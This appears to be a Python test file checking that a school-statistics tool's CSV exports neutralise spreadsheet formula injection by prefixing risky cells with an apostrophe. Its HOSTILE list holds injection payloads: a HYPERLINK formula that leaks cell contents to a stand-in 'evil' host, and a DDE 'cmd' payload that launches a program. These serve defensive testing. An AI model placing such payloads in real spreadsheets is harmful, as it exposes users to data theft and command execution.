"""CSV outputs never hand Excel a formula: problems.csv, flags.csv, pairs.csv (issue 10, point 5).

Each output is written by the real writer and read back as plain text: what Excel would see is
the raw cell, so the test looks at the raw cell.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
from hypothesis import given
from hypothesis import strategies as st

from opora.csv_safety import FORMULA_STARTS, neutralise, restore
from opora.engine.identify import Flag
from opora.engine.outputs import output_tables, write_outputs
from opora.engine.pairing import Pair
from opora.formats.base import Problem, write_problems
from opora.schemas import OUTPUTS

HOSTILE = ['=HYPERLINK("http://evil/?"&A1;"x")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1;2)", "\tTAB", "\rCR"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_a_text_excel_would_run_gets_an_apostrophe_in_front() -> None:
    for value in HOSTILE:
        assert neutralise(value) == "'" + value


def test_numbers_and_ordinary_text_are_left_as_they_are() -> None:
    for value in ("-3.4", "+7", "1e-3", "-0,5", "СОШ № 1", "edu053001", "", "школа-лидер"):
        assert neutralise(value) == value
    assert neutralise(-3.4) == -3.4 and neutralise(None) is None and neutralise(2024) == 2024


@given(st.text())
def test_restore_gives_back_exactly_what_was_neutralised(value: str) -> None:
    written = neutralise(value)
    assert isinstance(written, str)
    assert restore(written) == value
    if written.startswith(FORMULA_STARTS):  # only a plain number may start so
        assert float(written.replace(",", ".")) is not None


def test_problems_csv_neutralises_file_names_sheet_titles_and_messages(tmp_path: Path) -> None:
    problem = Problem(file="=cmd.xlsx", message="@строка не прочитана", code="bad_row",
                      sheet="+Лист", row=3, column="-B")
    out = tmp_path / "problems.csv"
    write_problems(out, [problem])
    header, row = _cells(out)
    values = dict(zip(header, row, strict=True))
    assert values == {"file": "'=cmd.xlsx", "sheet": "'+Лист", "row": "3", "column": "'-B",
                      "code": "bad_row", "message": "'@строка не прочитана"}


def test_flags_and_pairs_csv_neutralise_names_and_keep_numbers(tmp_path: Path) -> None:
    schools = pa.table({"school_key": ["=K1", "L2"], "short_name": ['=HYPERLINK("x")', "@Лидер"],
                        "full_name": [None, None], "municipality": ["-Город", "Город"]})
    empty = {n: OUTPUTS[n].schema.empty_table() for n in ("school_stats", "context",
                                                          "objectivity")}
    outputs = output_tables(
        flags=[Flag("=K1", "low_results", 2024, "+ниже региона на 12 п. п.")],
        pairs=[Pair("=K1", "L2", ["rus"], -0.25, 12.5, 3.0, 1.0, "=похожий контекст")],
        schools=schools, **empty)
    write_outputs(outputs, tmp_path)
    [flag_header, flag] = _cells(tmp_path / "flags.csv")
    assert dict(zip(flag_header, flag, strict=True)) == {
        "school_key": "'=K1", "school_name": "'=HYPERLINK(\"x\")", "municipality": "'-Город",
        "flag": "low_results", "year": "2024", "evidence": "'+ниже региона на 12 п. п."}
    [pair_header, pair] = _cells(tmp_path / "pairs.csv")
    values = dict(zip(pair_header, pair, strict=True))
    assert values["low_school_name"] == "'=HYPERLINK(\"x\")"
    assert values["leader_school_name"] == "'@Лидер"
    assert values["context_distance"] == "-0.250"  # a number stays a number
    assert values["reason"] == "'=похожий контекст"
    # only the files are made safe: the tables the web stores keep the values as they are
    assert outputs["flags"].column("evidence").to_pylist() == ["+ниже региона на 12 п. п."]
    assert outputs["pairs"].column("reason").to_pylist() == ["=похожий контекст"]
